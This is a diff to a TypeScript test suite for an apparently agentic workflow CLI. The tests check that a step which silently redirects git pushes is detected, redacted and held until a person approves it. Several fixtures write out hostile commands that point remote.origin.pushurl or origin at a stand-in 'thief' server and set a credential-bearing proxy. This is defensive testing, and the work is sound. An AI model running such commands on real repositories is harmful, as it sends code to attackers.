@@ -10,6 +10,7 @@ import { createGit } from "../../src/git/git.ts";
 import { listRefs, push } from "../../src/git/push.ts";
 import { createSubmodules } from "../../src/git/submodules.ts";
 import { runCli } from "../fakes/cli.ts";
+import { startCli, until } from "../fakes/cli-process.ts";
 import { type GitServer, startGitServer } from "../fakes/git-server.ts";
 import { createProject, type Project } from "../fakes/project.ts";
 
@@ -233,49 +234,59 @@ async function pausedAfter(script: string) {
 }
 
 describe("a run that paused after a step changed where git's remotes are", () => {
-  test("pushes where it did before, in every command, and names the change until a person accepts it", async () => {
-    await using run = await pausedAfter(
-      'git config remote.origin.pushurl "$THIEF/x.git"; git config http.proxy "http://me:s3cret@$HOST"',
-    );
-    const { project, server, thief, cli, runId } = run;
-    expect(run.first.stderr).toMatch(/changed while the step ran: .*remote\.origin\.pushurl = http/);
-    await cli("status", runId);
-    await cli("list");
-    const answered = await cli("input", runId, "Good.", "--resume");
-    expect(answered.code).toBe(0);
-    expect(answered.stderr).toMatch(/remote\.origin\.pushurl = http:\S+\/x\.git; http\.proxy = http:\/\/127/);
-    expect(answered.stderr).not.toContain("s3cret");
-    expect(
-      [...server.refs().keys()].filter((ref) => ref.startsWith("refs/heads/agentic/flow-")),
-    ).toHaveLength(1);
-    expect(thief.heard).toEqual([]);
+  test(
+    "pushes where it did before, in every command, and names the change until a person accepts it",
+    { tags: "slow" },
+    async () => {
+      await using run = await pausedAfter(
+        'git config remote.origin.pushurl "$THIEF/x.git"; git config http.proxy "http://me:s3cret@$HOST"',
+      );
+      const { project, server, thief, cli, runId } = run;
+      expect(run.first.stderr).toMatch(/changed while the step ran: .*remote\.origin\.pushurl = http/);
+      await cli("status", runId);
+      await cli("list");
+      const answered = await cli("input", runId, "Good.", "--resume");
+      expect(answered.code).toBe(0);
+      expect(answered.stderr).toMatch(
+        /remote\.origin\.pushurl = http:\S+\/x\.git; http\.proxy = http:\/\/127/,
+      );
+      expect(answered.stderr).not.toContain("s3cret");
+      expect(
+        [...server.refs().keys()].filter((ref) => ref.startsWith("refs/heads/agentic/flow-")),
+      ).toHaveLength(1);
+      expect(thief.heard).toEqual([]);
 
-    const next = await cli("run", "flow");
-    expect(next.code).toBe(3);
-    expect(thief.heard).toEqual([]);
-    const [, version = ""] = /--trust-remotes ([0-9a-f]+)/.exec(next.stderr) ?? [];
-    const [, later = ""] = project.runs();
-    expect(await cli("resume", later, "--trust-remotes", "0".repeat(20))).toMatchObject({
-      code: 2,
-      stderr: expect.stringContaining(version),
-    });
-    await cli("resume", later, "--trust-remotes", version);
-    expect(thief.heard.length).toBeGreaterThan(0);
-  });
+      const next = await cli("run", "flow");
+      expect(next.code).toBe(3);
+      expect(thief.heard).toEqual([]);
+      const [, version = ""] = /--trust-remotes ([0-9a-f]+)/.exec(next.stderr) ?? [];
+      const [, later = ""] = project.runs();
+      expect(await cli("resume", later, "--trust-remotes", "0".repeat(20))).toMatchObject({
+        code: 2,
+        stderr: expect.stringContaining(version),
+      });
+      await cli("resume", later, "--trust-remotes", version);
+      expect(thief.heard.length).toBeGreaterThan(0);
+    },
+  );
 
-  test("uses what is configured once nothing differs any more, and no run is unfinished", async () => {
-    await using run = await pausedAfter('git config remote.origin.pushurl "$THIEF/x.git"');
-    const { project, cli, runId } = run;
-    project.git("config", "--unset", "remote.origin.pushurl");
-    const { code, stderr } = await cli("input", runId, "Good.", "--resume");
-    expect(code).toBe(0);
-    expect(stderr).not.toContain("--trust-remotes");
-    const folder = join(project.home, ".local/state/agentic-sdlc");
-    const kept = readdirSync(folder, { recursive: true, encoding: "utf8" });
-    expect(kept.filter((path) => path.includes("settings/"))).toEqual([]);
-  });
+  test(
+    "uses what is configured once nothing differs any more, and no run is unfinished",
+    { tags: "slow" },
+    async () => {
+      await using run = await pausedAfter('git config remote.origin.pushurl "$THIEF/x.git"');
+      const { project, cli, runId } = run;
+      project.git("config", "--unset", "remote.origin.pushurl");
+      const { code, stderr } = await cli("input", runId, "Good.", "--resume");
+      expect(code).toBe(0);
+      expect(stderr).not.toContain("--trust-remotes");
+      const folder = join(project.home, ".local/state/agentic-sdlc");
+      const kept = readdirSync(folder, { recursive: true, encoding: "utf8" });
+      expect(kept.filter((path) => path.includes("settings/"))).toEqual([]);
+    },
+  );
 
-  test("sets back what a step broke whose engine was killed with it", async () => {
+  test("sets back what a step broke whose engine was killed with it", { tags: "slow" }, async () => {
     using project = createProject({ workflows: { flow: FLOW } });
     writeFileSync(join(project.home, "plant.sh"), "");
     expect((await runCli(project, ["run", "flow"])).code).toBe(3);
@@ -296,7 +307,22 @@ describe("a run that paused after a step changed where git's remotes are", () =>
     expect(keptSettings(project)).toBeUndefined();
   });
 
-  test("keeps its files here where there was no remote before its first step", async () => {
+  test("keeps its settings while it is interrupted, whatever other run ends meanwhile", async () => {
+    using project = createProject({ workflows: { flow: FLOW } });
+    const plant = join(project.home, "plant.sh");
+    writeFileSync(plant, 'touch "$HOME/here"; sleep 600');
+    await using interrupted = startCli(project, ["run", "flow"]);
+    await until("the step works", () => existsSync(join(project.home, "here")));
+    interrupted.child.kill("SIGTERM");
+    await interrupted.ended;
+    expect(project.progress()).toMatchObject({ status: "cancelled", reason: "interrupted" });
+    writeFileSync(plant, "");
+    expect((await runCli(project, ["run", "flow"])).code).toBe(3);
+    expect((await runCli(project, ["cancel", project.runs().at(-1) ?? ""])).code).toBe(0);
+    expect(keptSettings(project)).toBeDefined();
+  });
+
+  test("keeps its files here where there was no remote before its first step", { tags: "slow" }, async () => {
     await using thief = await startThief();
     using project = createProject({ workflows: { flow: FLOW } });
     writeFileSync(join(project.home, "plant.sh"), `git remote add origin ${thief.origin}/x.git`);
